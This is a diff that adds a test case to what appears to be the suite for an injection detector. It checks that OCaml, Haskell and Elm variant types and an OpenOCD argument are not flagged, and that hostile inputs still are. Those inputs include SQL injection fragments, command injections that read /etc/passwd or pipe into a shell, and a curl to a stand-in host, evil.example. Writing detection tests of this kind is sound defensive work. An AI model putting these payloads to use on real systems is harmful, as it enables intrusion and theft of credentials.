@@ -3328,3 +3328,23 @@ t.test("thirty-eighth round, after the thirty-eighth part's measurement: an Ethe
     t.ok(q(v, 'url').includes('ssrf'), `still read: ${v}`)
   }
 })
+
+t.test("thirty-ninth round, after the thirty-ninth part's measurement: a command's own select, an ML-family type's variants", async (t) => {
+  // OpenOCD's command in a board definition; a form's instruction: one plain name selected after a word no query goes on from
+  t.same(json({ debug: { openocd_target: 'nrf52.cfg', openocd_extra_args: ['-c', 'transport select swd;'] } }), [], "OpenOCD's transport")
+  t.same(q('please select one;'), [], 'an instruction')
+  // a value SQL reads alone, a variable, more than one name, a number or a query word before it: read as before
+  for (const v of ['select swd;', '1 select bar;', 'x select user;', 'x select @@version;', 'x select a, b;', 'x select pass from users;', 'union select pass;', "x' ; select pass;", 'abc select xyz;select 1;', "x select current_user;", "1' select name;"]) {
+    t.ok(q(v).includes('sqli'), `still read: ${v}`)
+  }
+  // OCaml's variants (cohttp's accepted encodings), Haskell's and Elm's
+  const ocaml = 'type encoding = Accept_types.encoding =\n  | Encoding of string\n  | Gzip\n  | Compress\n  | Deflate\n  | Identity\n  | AnyEncoding\n[@@deriving sexp]\n'
+  t.same(json({ code: ocaml }), [], "OCaml's variants")
+  t.same(json({ code: 'type shape =\n  (* a circle by its radius *)\n  | Circle of float\n  | Rect of float * float\n  | Poly of (float * float) list\n  | Fn of (int -> int)\n' }), [], 'with a comment and arguments')
+  t.same(json({ code: 'data Shape\n  = Circle Float\n  | Rect Float Float\n  -- a square\n  | Square Float\n  deriving (Show)\n' }), [], "Haskell's")
+  t.same(json({ code: 'type Msg\n    = Increment\n    | Decrement\n    | Reset\n' }), [], "Elm's")
+  // a line that opens on a pipe under anything else, a command after the constructor, a line continued into it: read as before
+  for (const v of ['x\n| id', 'x\n| cat /etc/passwd', 'type t =\n  | sh; id', 'type t =\n | curl http://evil.example/x', 'type t = \\\n| sh', 'echo id\n| sh', 'type t =\n  | a\nx; id', 'type t =\n  | a $(id)', 'type t =\r\n  | sh', 'data T\n  = A; id\n  | B', 'let x = 1\n  | sh']) {
+    t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  }
+})
